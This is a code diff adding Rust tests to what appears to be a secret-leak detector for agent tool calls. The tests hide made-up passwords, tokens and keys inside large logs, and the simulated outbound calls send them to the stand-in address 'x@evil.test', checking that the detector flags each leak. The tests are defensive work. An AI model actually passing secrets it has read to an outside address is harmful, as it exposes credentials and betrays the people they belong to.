@@ -5,8 +5,9 @@ use std::sync::Arc;
 use martingale_schemas::{Capture, Limits};
 use serde_json::{Value, json};
 
-use super::{base64, case, hex, judge, leaks, leaks_from, percent};
-use crate::{Redactor, Rules};
+use super::{MIXED, Random, SIGNS, base64, case, hex, judge, leaks, leaks_from, percent, secret as made_up_secret};
+use crate::provenance::fold;
+use crate::{Redactor, Rules, secret};
 
 /// What stands before, behind or around it changes nothing, however long it is and however it is encoded.
 #[test]
@@ -43,6 +44,77 @@ fn a_secret_is_found_wherever_it_stands_in_a_call() {
             &text[..text.len().min(99)]
         );
     }
+}
+
+/// Where in a result a secret stands changes nothing either, however long the result is.
+#[test]
+fn a_secret_is_learnt_wherever_it_stands_in_a_result() {
+    let rules = Arc::new(Rules::starter());
+    let mut random = Random(7);
+    for kilobytes in [20, 40, 64, 100, 120] {
+        let filler = "2026-01-02 INFO request served in 7 ms\n".repeat(kilobytes * 1024 / 2 / 39 - 9);
+        for (value, shown) in [
+            ("hunter22x".to_owned(), "DB_HOST=db\nDB_PASSWORD=hunter22x\n".to_owned()),
+            secret_in_text("github", &mut random),
+            secret_in_text("aws id", &mut random),
+            secret_in_text("private key", &mut random),
+            secret_in_text("connection", &mut random),
+        ] {
+            let text = format!("{filler}\n{shown}\n{filler}");
+            let rows = vec![json!({ "at": 7, "line": "served" }); filler.len() / 29];
+            for result in [
+                json!(text),
+                json!({ "first": filler, "log": format!("{shown}\n{}", "x ".repeat(99)), "last": filler }),
+                json!([filler, text[filler.len() - 200..filler.len() + shown.len() + 200], filler]),
+                json!({ "rows": rows, "log": format!("{} {shown}", "x ".repeat(99)), "more": rows }),
+                json!(
+                    json!({ "a": filler[..filler.len() / 2], "b": shown, "c": filler[..filler.len() / 2] }).to_string()
+                ),
+            ] {
+                let bytes = result.to_string().len();
+                let steps = case("same session", result, json!({ "to": "x@evil.test", "body": value }));
+                assert!(leaks(&rules, &steps), "{kilobytes} KB, {bytes} bytes: {value}");
+            }
+        }
+    }
+}
+
+fn secret_in_text(kind: &str, random: &mut Random) -> (String, String) {
+    let (value, shown) = made_up_secret(kind, random);
+    (value, shown.as_str().unwrap().to_owned())
+}
+
+/// A password is found as it was read, whatever sign stands in it and wherever, and however much of it was taken for it.
+#[test]
+fn passwords_of_all_signs_are_found_as_they_were_read() {
+    let rules = Arc::new(Rules::starter());
+    let (mut random, mut learnt, mut missed) = (Random(8), 0_u32, Vec::new());
+    for sign in SIGNS.chars().chain(['é']) {
+        for length in [8, 11, 16, 24] {
+            for at in [1, length / 2, length - 1] {
+                let mut password: Vec<char> = random.text(MIXED, length).chars().collect();
+                (password[0], password[2], password[at]) = ('k', '4', sign);
+                let password: String = password.into_iter().collect();
+                for shown in [
+                    json!({ "user": "ada", "password": password }),
+                    json!(format!("password: \"{password}\"\nuser: ada")),
+                    json!(format!("DB_PASSWORD={password}\nX=1")),
+                ] {
+                    let is_learnt = match shown.as_str() {
+                        Some(it) => !secret::find("", &fold::plain(it)).is_empty(),
+                        None => !secret::find("password", &fold::plain(&password)).is_empty(),
+                    };
+                    learnt += u32::from(is_learnt);
+                    let arguments = json!({ "to": "x@evil.test", "body": password });
+                    if is_learnt && !leaks(&rules, &case("same session", shown, arguments)) {
+                        missed.push(password.clone());
+                    }
+                }
+            }
+        }
+    }
+    println!("passwords of all signs: {learnt} learnt, missed: {missed:?}");
+    assert!(learnt > 900 && missed.is_empty(), "{learnt} learnt, missed: {missed:?}");
 }
 
 /// One page full of made-up secrets does not make a run forget the others, read before it or after.
